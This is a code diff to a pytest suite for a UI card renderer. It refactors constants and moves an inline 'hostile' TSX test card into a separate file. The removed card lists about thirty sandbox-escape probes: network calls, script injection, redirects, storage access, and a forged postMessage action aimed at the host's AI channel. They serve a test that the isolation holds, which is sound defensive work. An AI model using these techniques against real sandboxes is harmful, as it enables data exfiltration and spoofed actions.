@@ -19,6 +19,9 @@ from ui4a.render import ASSETS, Rendered, Renderer
 
 CASES = sorted((Path(__file__).parents[2] / "ui4a" / "runtime" / "src" / "cases").glob("*.tsx"))
 LIMIT_S = 60
+OPEN_REPLY = b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
+WATCH_HEIGHT = """window.heights = [];
+window.watch = setInterval(() => heights.push(document.querySelector("iframe").offsetHeight), 10)"""
 T = TypeVar("T")
 
 pytestmark = pytest.mark.skipif(
@@ -238,45 +241,7 @@ def test_a_broken_card_says_what_is_wrong(cards: Cards, code: str, words: str) -
     assert words in rendered.diagnostics[-1].message
 
 
-HOSTILE = """import { useEffect } from "react";
-const url = "URL";
-const tries: [string, () => unknown][] = [
-  ["fetch", () => fetch(url + "fetch").catch(() => 0)],
-  ["own", () => fetch("/tokens.css").then(() => { document.title = "read"; }).catch(() => 0)],
-  ["xhr", () => { const x = new XMLHttpRequest(); x.open("GET", url + "xhr"); x.send(); }],
-  ["ws", () => new WebSocket(url.replace("http", "ws") + "ws")],
-  ["events", () => new EventSource(url + "events")],
-  ["beacon", () => navigator.sendBeacon(url + "beacon", "x")],
-  ["image", () => { new Image().src = url + "image"; }],
-  ["css", () => { document.body.style.backgroundImage = `url(${url}css)`; }],
-  ["import", () => { const s = document.createElement("style"); s.textContent = `@import "${url}sheet";`; document.head.append(s); }],
-  ["script", () => { const s = document.createElement("script"); s.src = url + "script"; document.head.append(s); }],
-  ["link", () => { for (const rel of ["stylesheet", "prefetch", "preload", "icon", "preconnect"]) { const l = document.createElement("link"); l.rel = rel; l.href = url + rel; document.head.append(l); } }],
-  ["video", () => { const v = document.createElement("video"); v.src = url + "video"; v.load(); }],
-  ["nested", () => { const f = document.createElement("iframe"); f.src = url + "nested"; document.body.append(f); }],
-  ["object", () => { const o = document.createElement("object"); o.data = url + "object"; document.body.append(o); }],
-  ["form", () => { const f = document.createElement("form"); f.action = url + "form"; f.method = "post"; document.body.append(f); f.submit(); }],
-  ["worker", () => new Worker(URL.createObjectURL(new Blob([`fetch("${url}worker")`])))],
-  ["module", () => new Function("u", "return import(u)")(url + "module").catch(() => 0)],
-  ["popup", () => window.open(url + "popup")],
-  ["anchor", () => { const a = document.createElement("a"); a.href = url + "anchor"; a.target = "_blank"; document.body.append(a); a.click(); }],
-  ["refresh", () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + url + "refresh"; document.head.append(m); }],
-  ["parent", () => { parent.document.title = "owned"; }],
-  ["cookie", () => { document.cookie = "a=1"; if (document.cookie) document.title = "owned"; }],
-  ["storage", () => { localStorage.setItem("a", "1"); document.title = "owned"; }],
-  ["database", () => { indexedDB.open("a"); }],
-  ["rtc", () => { new RTCPeerConnection(); document.title = "owned"; }],
-  ["pristine", () => { const f = document.createElement("iframe"); document.body.append(f); new (f.contentWindow as any).RTCPeerConnection(); document.title = "owned"; parent.postMessage("owned", "*"); }],
-  ["forge", () => { parent.postMessage({ kind: "action", action: { version: 1, origin: { surface: "render", component: "x" }, state: {}, execution: "message", visibility: "ai", message: "forged" } }, "*"); }],
-  ["hello", () => { parent.postMessage({ hello: "petitfour.card.hello", version: 1 }, "*"); }],
-  ["top", () => { top!.location.href = url + "top"; }],
-  ["self", () => { location.href = url + "self"; }],
-];
-export default function App() {
-  useEffect(() => { for (const [, run] of tries) { try { run(); } catch { /* expected */ } } }, []);
-  return <Card><Text>Quiet</Text></Card>;
-}
-"""
+HOSTILE = (Path(__file__).parent / "cards" / "hostile.tsx").read_text("utf-8")
 
 
 def test_a_hostile_card_reaches_no_server_no_parent_and_no_storage(cards: Cards) -> None:
@@ -286,9 +251,7 @@ def test_a_hostile_card_reaches_no_server_no_parent_and_no_storage(cards: Cards)
         async def log(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
             with contextlib.suppress(ConnectionError):
                 seen.append(await reader.read(200))
-                writer.write(
-                    b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
-                )
+                writer.write(OPEN_REPLY)
                 await writer.drain()
             writer.close()
 
@@ -360,9 +323,7 @@ def test_a_reference_card_appears_while_it_streams_and_never_shrinks(cards: Card
     async def work() -> None:
         page = cards.renderer.page
         await opened(page, "", streaming=True)
-        await page.evaluate(
-            "window.heights = []; window.watch = setInterval(() => heights.push(document.querySelector('iframe').offsetHeight), 10)"
-        )
+        await page.evaluate(WATCH_HEIGHT)
         for end in range(0, len(code), 24):
             await page.evaluate("([code]) => card.update(code, true)", [code[:end]])
             await asyncio.sleep(0.004)
